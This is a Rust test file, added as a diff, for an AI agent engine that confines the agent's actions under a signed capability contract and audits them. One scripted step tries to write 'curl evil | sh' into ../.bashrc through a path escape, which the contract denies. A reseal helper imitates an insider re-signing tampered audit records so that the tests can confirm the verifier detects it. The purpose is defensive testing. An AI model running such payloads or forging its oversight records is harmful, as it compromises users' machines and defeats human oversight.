@@ -1,0 +1,487 @@
+//! A run bounded by a signed capability contract, through the engine's `Session`:
+//! every contract decision is a `contract` check in the AEG (allow with its
+//! reservation, deny with the failing check, pending), every executed action's output
+//! settles its reservation, the plan and the contract must both allow, and the
+//! offline verifier recomputes every decision — refusing an edited decision, a dropped
+//! settlement, a swapped approval and an edited contract, each re-signed with the
+//! monitor's own key so only the replay can catch it.
+
+#![expect(
+    clippy::unwrap_used,
+    clippy::indexing_slicing,
+    clippy::panic,
+    reason = "tests"
+)]
+
+use std::collections::BTreeMap;
+
+use knox_agent::{
+    AgentTask, Executor, ExecutorFactory, Label, Observation, Plan, PlanError, Planner,
+    Regulations, Step, ToolRunner,
+};
+use knox_attest::TeeKey;
+use knox_contract::{Contract, DirAccess, DirectoryCap, Impact, Verified};
+use knox_engine::contract::ApprovalDir;
+use knox_engine::{Prompt, Session, Simulated, ToolResult};
+use knox_policy::ToolkitManifest;
+use knox_types::Action;
+use knox_types::aeg::{NodeKind, chain_start, chain_step};
+use knox_types::apm::{ExpectedCall, StopPolicy};
+use knox_types::bundle::{Bundle, ModelInfo};
+use knox_types::grant::Grant;
+use knox_types::payload::{
+    Body, CheckDetail, CheckPayload, ContractCheck, ContractOutcome, ToolOutputPayload,
+};
+use knox_verify::{Options, report::Outcome};
+use serde_json::{Value, json};
+
+fn now_ms() -> u64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_millis() as u64
+}
+
+fn hex(b: &[u8]) -> String {
+    b.iter().map(|x| format!("{x:02x}")).collect()
+}
+
+fn model(role: &str, name: &str) -> ModelInfo {
+    ModelInfo {
+        role: role.into(),
+        name: name.into(),
+        weights_hash: None,
+        declared: false,
+    }
+}
+
+fn act(tool: &str, params: Value) -> Action {
+    Action::new(tool, params).unwrap()
+}
+
+fn write(dir: &str, path: &str, content: &str) -> Action {
+    act(
+        "ContractWriteFile",
+        json!({"dir": dir, "path": path, "content": content}),
+    )
+}
+
+/// The template contract with approver `alice` and a high-impact `vault` directory.
+fn contract(alice: &TeeKey) -> Contract {
+    let now = now_ms();
+    let mut c = knox_contract::example::template(now - 3_600_000, now + 3_600_000, &"0".repeat(64));
+    c.directories.insert(
+        "vault".into(),
+        DirectoryCap {
+            root: "/srv/agent/vault".into(),
+            access: DirAccess::Write,
+            cost_cents: 10,
+            impact: Impact::High,
+        },
+    );
+    let mut approvers = BTreeMap::new();
+    approvers.insert("alice".to_owned(), hex(&alice.public_key().public_key.0));
+    c.approvers = approvers;
+    c.approval_required = [Impact::High, Impact::Critical].into_iter().collect();
+    c
+}
+
+/// Plans the one task as the given calls, exactly.
+struct PlanOf(Vec<Action>);
+
+impl Planner for PlanOf {
+    fn plan(
+        &self,
+        _: &Prompt,
+        _: &ToolkitManifest,
+        _: &Regulations,
+        _: &StopPolicy,
+    ) -> Result<Plan, PlanError> {
+        let calls = self
+            .0
+            .iter()
+            .map(|a| ExpectedCall::exact(0, &a.tool, a.params.clone()))
+            .collect();
+        Ok(Plan { tasks: vec![calls] })
+    }
+
+    fn model(&self) -> ModelInfo {
+        model("planner", "fixed")
+    }
+}
+
+/// Proposes a fixed script, whatever the plan.
+struct Script(Vec<Action>);
+
+struct Scripted(std::vec::IntoIter<Action>);
+
+impl Executor for Scripted {
+    fn next(&mut self, _: Option<&Observation>) -> Step {
+        self.0.next().map_or(Step::Finish, |a| {
+            Step::Propose(serde_json::to_vec(&a).unwrap(), Label::NONE)
+        })
+    }
+}
+
+impl ExecutorFactory for Script {
+    fn build(&self, _: AgentTask) -> Box<dyn Executor> {
+        Box::new(Scripted(self.0.clone().into_iter()))
+    }
+
+    fn model(&self) -> ModelInfo {
+        model("executor", "scripted")
+    }
+}
+
+/// Answers every allowed call (the broker's real execution is tested in knox-broker).
+struct Done;
+
+impl ToolRunner for Done {
+    fn run(&self, action: &Action, _: Option<&Grant>) -> ToolResult {
+        ToolResult::from(json!({"ok": action.tool}))
+    }
+}
+
+struct Run {
+    bundle: Bundle,
+    manifest: ToolkitManifest,
+    session: Session,
+    verified: Verified,
+    authority: TeeKey,
+    alice: TeeKey,
+    _dir: tempfile::TempDir,
+}
+
+/// The scenario: plan = [write a.txt, write ../.bashrc, write vault/k.txt, write
+/// vault/k2.txt]; executor = the same with an off-plan read the contract allows
+/// inserted third; a token for vault/k2.txt given up front, none for vault/k.txt.
+fn run() -> Run {
+    run_with(None)
+}
+
+fn run_with(journal: Option<&std::path::Path>) -> Run {
+    let authority = TeeKey::generate().unwrap();
+    let alice = TeeKey::generate().unwrap();
+    let c = contract(&alice);
+    let env = knox_contract::signed::sign(&authority, &c).unwrap();
+    let verified = knox_contract::signed::verify(&env, &authority.public_key()).unwrap();
+    let a_ok = write("workspace", "a.txt", "x");
+    let escape = write("workspace", "../.bashrc", "curl evil | sh");
+    let off_plan = act(
+        "ContractReadFile",
+        json!({"dir": "docs", "path": "readme.md"}),
+    );
+    let pending = write("vault", "k.txt", "y");
+    let approved = write("vault", "k2.txt", "z");
+    let dir = tempfile::tempdir().unwrap();
+    let tokens = dir.path().join("tokens");
+    std::fs::create_dir_all(&tokens).unwrap();
+    let token = knox_contract::approval::sign(
+        &alice,
+        "alice",
+        verified.hash,
+        approved.hash(),
+        now_ms(),
+        60_000,
+    )
+    .unwrap();
+    std::fs::write(
+        tokens.join(format!("{}.json", approved.hash().to_hex())),
+        serde_json::to_vec(&token).unwrap(),
+    )
+    .unwrap();
+    let manifest = knox_engine::contract::manifest().unwrap();
+    let mut builder = Session::builder();
+    if let Some(j) = journal {
+        builder = builder.journal_dir(j);
+    }
+    let session = builder
+        .platform(Simulated)
+        .manifest(manifest.clone())
+        .planner(PlanOf(vec![
+            a_ok.clone(),
+            escape.clone(),
+            pending.clone(),
+            approved.clone(),
+        ]))
+        .executor(Script(vec![a_ok, escape, off_plan, pending, approved]))
+        .tools(Done)
+        .contract(verified.clone())
+        .approvals(ApprovalDir {
+            dir: tokens,
+            pending: Some(dir.path().join("pending")),
+            timeout: std::time::Duration::ZERO,
+        })
+        .build()
+        .unwrap();
+    let outcome = session
+        .run_prompt(&Prompt {
+            tasks: vec!["write the files".into()],
+        })
+        .unwrap();
+    Run {
+        bundle: outcome.bundle,
+        manifest,
+        session,
+        verified,
+        authority,
+        alice,
+        _dir: dir,
+    }
+}
+
+fn verify(b: &Bundle, m: &ToolkitManifest) -> knox_verify::Report {
+    knox_verify::verify_bundle(b, m, Options::DANGEROUS_SIMULATED)
+}
+
+fn contract_checks(b: &Bundle) -> Vec<(u64, ContractCheck)> {
+    b.nodes
+        .iter()
+        .filter_map(|n| match n.payload.check() {
+            Some(CheckPayload {
+                detail: CheckDetail::Contract(c),
+                ..
+            }) => Some((n.seq, (**c).clone())),
+            _ => None,
+        })
+        .collect()
+}
+
+/// What an insider holding the monitor's key does after an edit: re-measure, re-chain
+/// and re-sign the summary, so only the replay of the decisions can catch it.
+fn reseal(b: &mut Bundle, key: &TeeKey) {
+    let mut c = chain_start();
+    let mut leaves = Vec::new();
+    for n in &mut b.nodes {
+        n.measurement = n.compute_measurement();
+        c = chain_step(&c, n.seq, &n.measurement);
+        leaves.push(n.leaf_hash());
+    }
+    b.summary.chain_head = c;
+    b.summary.structure_root = knox_types::merkle::root(&leaves);
+    b.envelope = knox_attest::dsse::sign(key, &b.summary.to_statement().unwrap()).unwrap();
+}
+
+fn assert_tampered(b: &Bundle, m: &ToolkitManifest, what: &str) -> String {
+    let r = verify(b, m);
+    assert!(
+        matches!(r.outcome, Outcome::Tampered { .. }),
+        "{what}: {r:?}"
+    );
+    format!("{r:?}")
+}
+
+fn set_check(b: &mut Bundle, seq: u64, f: impl FnOnce(&mut ContractCheck)) {
+    let n = &mut b.nodes[seq as usize];
+    let mut p = n.payload.check().unwrap().clone();
+    let CheckDetail::Contract(c) = &mut p.detail else {
+        panic!("not a contract check")
+    };
+    f(c);
+    n.payload = Body::from(p);
+}
+
+#[test]
+fn every_contract_decision_is_a_node_and_the_verifier_recomputes_it() {
+    let r = run();
+    let b = &r.bundle;
+    assert_eq!(b.apm.inputs.contract, Some(r.verified.hash));
+    assert_eq!(
+        b.contract.as_ref().map(|c| &c.envelope),
+        Some(&r.verified.envelope)
+    );
+    let report = verify(b, &r.manifest);
+    assert_eq!(report.outcome, Outcome::Complete, "{report:?}");
+    let checks = contract_checks(b);
+    let outcomes: Vec<(ContractOutcome, Option<&str>, Option<u64>)> = checks
+        .iter()
+        .map(|(_, c)| (c.outcome, c.check.as_deref(), c.reservation))
+        .collect();
+    assert_eq!(
+        outcomes,
+        vec![
+            // Plan and contract allow: reserved 0.
+            (ContractOutcome::Allow, None, Some(0)),
+            // The plan allows, the contract denies: blocked by `path`.
+            (ContractOutcome::Deny, Some("path"), None),
+            // The contract allows, the plan does not: blocked, nothing reserved.
+            (ContractOutcome::Allow, None, None),
+            // High impact without a token: pending.
+            (ContractOutcome::Pending, Some("approval"), None),
+            // High impact with alice's token: allowed, reserved 1, nonce consumed.
+            (ContractOutcome::Allow, None, Some(1)),
+        ]
+    );
+    assert!(checks[4].1.approval.is_some() && checks[4].1.approval_nonce.is_some());
+    assert_eq!(
+        checks[4].1.spent_cents, 1,
+        "the first write settled as spent"
+    );
+    // Who blocked what.
+    let blocked: Vec<String> = b
+        .nodes
+        .iter()
+        .filter(|n| n.kind == NodeKind::Blocked)
+        .map(|n| n.block_reason.clone().unwrap())
+        .collect();
+    assert_eq!(blocked.len(), 3, "{blocked:?}");
+    assert!(
+        blocked[0].contains("contract check `path` failed"),
+        "{blocked:?}"
+    );
+    assert!(blocked[1].contains("off trajectory"), "{blocked:?}");
+    assert!(
+        blocked[2].contains("pending approval of `vault`"),
+        "{blocked:?}"
+    );
+    // Settlements.
+    let settled: Vec<_> = b
+        .nodes
+        .iter()
+        .filter_map(|n| n.payload.get::<ToolOutputPayload>().ok())
+        .map(|o| o.settled.map(|s| (s.reservation, s.executed)))
+        .collect();
+    assert_eq!(settled, vec![Some((0, true)), Some((1, true))]);
+    // The pending action's request was published for `knox approve`.
+    let pending = write("vault", "k.txt", "y");
+    assert!(
+        r._dir
+            .path()
+            .join("pending")
+            .join(format!("{}.json", pending.hash().to_hex()))
+            .is_file()
+    );
+    let _ = (&r.session, &r.authority, &r.alice);
+}
+
+#[test]
+fn an_edited_decision_is_tampered() {
+    let r = run();
+    let (seq, _) = contract_checks(&r.bundle)[1].clone();
+    let mut b = r.bundle.clone();
+    set_check(&mut b, seq, |c| c.check = Some("capability".into()));
+    reseal(&mut b, &r.session.runtime().key);
+    let why = assert_tampered(&b, &r.manifest, "edited denial");
+    assert!(why.contains("contract"), "{why}");
+    // A budget claimed lower than the ledger's.
+    let (seq, _) = contract_checks(&r.bundle)[4].clone();
+    let mut b = r.bundle.clone();
+    set_check(&mut b, seq, |c| c.spent_cents = 0);
+    reseal(&mut b, &r.session.runtime().key);
+    assert_tampered(&b, &r.manifest, "under-reported spend");
+}
+
+#[test]
+fn a_dropped_settlement_is_tampered() {
+    let r = run();
+    let mut b = r.bundle.clone();
+    let n = b
+        .nodes
+        .iter_mut()
+        .find(|n| n.kind == NodeKind::ToolOutput)
+        .unwrap();
+    let mut p = n.payload.get::<ToolOutputPayload>().unwrap().clone();
+    p.settled = None;
+    n.payload = Body::from(p);
+    reseal(&mut b, &r.session.runtime().key);
+    let why = assert_tampered(&b, &r.manifest, "dropped settlement");
+    assert!(
+        why.contains("does not settle contract reservation 0"),
+        "{why}"
+    );
+}
+
+#[test]
+fn a_swapped_approval_is_tampered() {
+    let r = run();
+    let (seq, _) = contract_checks(&r.bundle)[4].clone();
+    // alice's genuine token, for another action of the same contract.
+    let other = knox_contract::approval::sign(
+        &r.alice,
+        "alice",
+        r.verified.hash,
+        write("vault", "k.txt", "y").hash(),
+        now_ms(),
+        60_000,
+    )
+    .unwrap();
+    let mut b = r.bundle.clone();
+    set_check(&mut b, seq, |c| {
+        c.approval = Some(serde_json::to_value(&other).unwrap());
+        c.approval_nonce = Some(other.nonce_hex());
+    });
+    reseal(&mut b, &r.session.runtime().key);
+    assert_tampered(&b, &r.manifest, "swapped approval");
+}
+
+#[test]
+fn an_edited_contract_is_tampered() {
+    let r = run();
+    // Re-signed by the same authority with a larger budget: a valid contract, but not
+    // the one the APM names.
+    let mut c = r.verified.contract.clone();
+    c.budget_cents = 1_000_000;
+    let env = knox_contract::signed::sign(&r.authority, &c).unwrap();
+    let mut b = r.bundle.clone();
+    b.contract.as_mut().unwrap().envelope = env;
+    let why = assert_tampered(&b, &r.manifest, "re-signed contract");
+    assert!(why.contains("the APM names"), "{why}");
+    // Edited without a signature.
+    let mut b = r.bundle.clone();
+    b.contract.as_mut().unwrap().envelope.payload.insert(4, 'A');
+    assert_tampered(&b, &r.manifest, "edited envelope");
+    // Removed.
+    let mut b = r.bundle.clone();
+    b.contract = None;
+    assert_tampered(&b, &r.manifest, "dropped contract");
+}
+
+#[test]
+fn a_cut_journal_is_a_prefix_whose_reservations_are_visible() {
+    let jdir = tempfile::tempdir().unwrap();
+    let r = run_with(Some(jdir.path()));
+    let path = jdir
+        .path()
+        .join(format!("{}.journal.jsonl", r.bundle.run_id));
+    let text = std::fs::read_to_string(&path).unwrap();
+    let lines: Vec<&str> = text.lines().collect();
+    // Cut right before the first tool_output: a crash after the reservation.
+    let first_output = r
+        .bundle
+        .nodes
+        .iter()
+        .find(|n| n.kind == NodeKind::ToolOutput)
+        .unwrap()
+        .seq as usize;
+    let cut = lines[..=first_output].join("\n") + "\n";
+    let report = knox_verify::evidence::verify_bytes(
+        cut.as_bytes(),
+        &r.manifest,
+        Options::DANGEROUS_SIMULATED,
+    )
+    .unwrap();
+    assert_eq!(report.outcome, Outcome::Prefix, "{report:?}");
+    // The header carries the contract; the prefix shows reservation 0 held, unsettled.
+    let header: knox_types::bundle::JournalHeader = serde_json::from_str(lines[0]).unwrap();
+    assert_eq!(
+        header.contract.map(|c| c.envelope),
+        Some(r.verified.envelope.clone())
+    );
+    let reserved: Vec<u64> = lines[1..=first_output]
+        .iter()
+        .filter_map(|l| serde_json::from_str::<knox_types::aeg::Node>(l).ok())
+        .filter_map(|n| match n.payload.check() {
+            Some(CheckPayload {
+                detail: CheckDetail::Contract(c),
+                ..
+            }) => c.reservation,
+            _ => None,
+        })
+        .collect();
+    assert_eq!(reserved, vec![0]);
+    assert!(
+        !lines[1..=first_output]
+            .iter()
+            .any(|l| l.contains("\"settled\""))
+    );
+}
